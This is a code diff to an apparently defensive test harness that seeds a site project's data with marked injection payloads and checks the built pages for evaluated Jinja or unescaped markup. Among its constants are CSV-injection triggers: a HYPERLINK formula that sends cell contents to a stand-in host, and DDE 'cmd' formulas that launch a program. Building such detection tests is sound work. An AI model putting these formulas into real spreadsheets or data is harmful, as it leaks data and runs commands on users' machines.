@@ -50,6 +50,7 @@ PAYLOADS: tuple[tuple[str, str], ...] = (
 
 # Payloads that must appear verbatim wherever their field is shown as text: Jinja's
 # syntax proves the text went through no template engine (``{{ 7*7 }}``, never 49).
+VERBATIM_DIGIT_FREE = {"jinja_expression": '{m}{{ "seven" * 2 }}{m}'}
 VERBATIM = {"jinja_expression": "{m}{{ 7*7 }}{m}",
             "jinja_statement": "{m}{% raw %}R{% endraw %}{% if 1 %}I{% endif %}{m}",
             "jinja_comment": "{m}{# C #}{m}"}
@@ -60,16 +61,40 @@ EVALUATED = {"jinja_expression": "{m}49{m}", "jinja_statement": "{m}RI{m}", "jin
 CSV_TRIGGERS = ("=HYPERLINK(\"https://evil.invalid/?\"&A1,\"x\") ", "+1+cmd|' /C calc'!A0 ", "-2+3+cmd|' /C calc'!A0 ",
                 "@SUM(1+1)*cmd|' /C calc'!A0 ", "\t=1+1 ", "\r=1+1 ")
 
-MARKER = re.compile(r"hx(\d+)p(\d+)x")
+# Digit-free (each digit written as a letter a-j), so that text under the rule against numbers typed
+# by hand (macros/typed.py: glossary definitions) can carry markers too.
+MARKER = re.compile(r"hx([a-j]+)p([a-j]+)x")
+_DIGITS = str.maketrans("0123456789", "abcdefghij")
+_LETTERS = str.maketrans("abcdefghij", "0123456789")
 
 
 def marker(field_no: int, payload_no: int) -> str:
-    return f"hx{field_no}p{payload_no}x"
+    return f"hx{str(field_no).translate(_DIGITS)}p{str(payload_no).translate(_DIGITS)}x"
 
 
-def hostile_text(field_no: int, lead: str = "", skip: tuple[str, ...] = ()) -> str:
+def marker_numbers(mark: str) -> tuple[int, int]:
+    """(field, payload) of a marker."""
+    m = MARKER.fullmatch(mark)
+    assert m, mark
+    return int(m.group(1).translate(_LETTERS)), int(m.group(2).translate(_LETTERS))
+
+
+# The same payloads without digits, for text under the rule against numbers typed by hand.
+DIGIT_FREE = (("{{{{ 7*7 }}}}", '{{{{ "seven" * 2 }}}}'), ("alert(1)", "alert(one)"), ("&#60;", "&lt;"), ("&#62;", "&gt;"),
+              ("{m}=1 ", "{m}=one "))
+
+
+def hostile_text(field_no: int, lead: str = "", skip: tuple[str, ...] = (), digit_free: bool = False) -> str:
     """Every payload (but those in ``skip``), each with its own marker, after ``lead`` (a CSV trigger)."""
-    return lead + " ".join(t.format(m=marker(field_no, i)) for i, (name, t) in enumerate(PAYLOADS) if name not in skip)
+    out = []
+    for i, (name, t) in enumerate(PAYLOADS):
+        if name in skip:
+            continue
+        if digit_free:
+            for old, new in DIGIT_FREE:
+                t = t.replace(old, new)
+        out.append(t.format(m=marker(field_no, i)))
+    return lead + " ".join(out)
 
 
 @dataclass
@@ -88,10 +113,10 @@ class Corpus:
     fields: list[Field] = field(default_factory=list)
 
     def add(self, kind: str, where: str, lead: str = "", *, payloads: bool = True, text: str | None = None,
-            skip: tuple[str, ...] = ()) -> str:
+            skip: tuple[str, ...] = (), digit_free: bool = False) -> str:
         no = len(self.fields)
         if text is None:
-            text = hostile_text(no, lead, skip) if payloads else lead
+            text = hostile_text(no, lead, skip, digit_free) if payloads else lead
         self.fields.append(Field(no, kind, where, text))
         return text
 
@@ -100,14 +125,10 @@ class Corpus:
         return sum(len(set(MARKER.findall(f.text))) for f in self.fields)
 
     def field_of(self, mark: str) -> Field:
-        m = MARKER.fullmatch(mark)
-        assert m, mark
-        return self.fields[int(m.group(1))]
+        return self.fields[marker_numbers(mark)[0]]
 
     def payload_of(self, mark: str) -> str:
-        m = MARKER.fullmatch(mark)
-        assert m, mark
-        return PAYLOADS[int(m.group(2))][0]
+        return PAYLOADS[marker_numbers(mark)[1]][0]
 
     def kinds(self) -> list[str]:
         return sorted({f.kind for f in self.fields})
@@ -239,7 +260,8 @@ def _inert_glossary(project: Path, c: Corpus, n) -> None:
     # Glossary: definitions of terms the pages use.
     gloss = _load(project / "data/glossary.yml")
     for term in ("METI", "Rapidus"):
-        gloss["terms"][term] = c.add("glossary", f"data/glossary.yml terms.{term}", _trigger(next(n)))
+        # Digit-free: a definition is prose, where a typed number stops the build (macros/typed.py).
+        gloss["terms"][term] = c.add("glossary", f"data/glossary.yml terms.{term}", digit_free=True)
     _dump(project / "data/glossary.yml", gloss)
 
 
@@ -451,9 +473,7 @@ def html_findings(html: str, where: str) -> list[Finding]:
 def evaluated_findings(text: str, where: str) -> list[Finding]:
     """Jinja syntax from data that a template engine evaluated (``{{ 7*7 }}`` became 49)."""
     out = []
-    for m in set(MARKER.findall(text)):
-        pass
-    for mm in re.finditer(r"(hx\d+p\d+x)(49|RI|)(hx\d+p\d+x)", text):
+    for mm in re.finditer(r"(hx[a-j]+p[a-j]+x)(49|RI|sevenseven|)(hx[a-j]+p[a-j]+x)", text):
         if mm.group(1) == mm.group(3):
             out.append(Finding(f"{where}: Jinja evaluated ({mm.group(0)!r})", mm.group(1)))
     return out
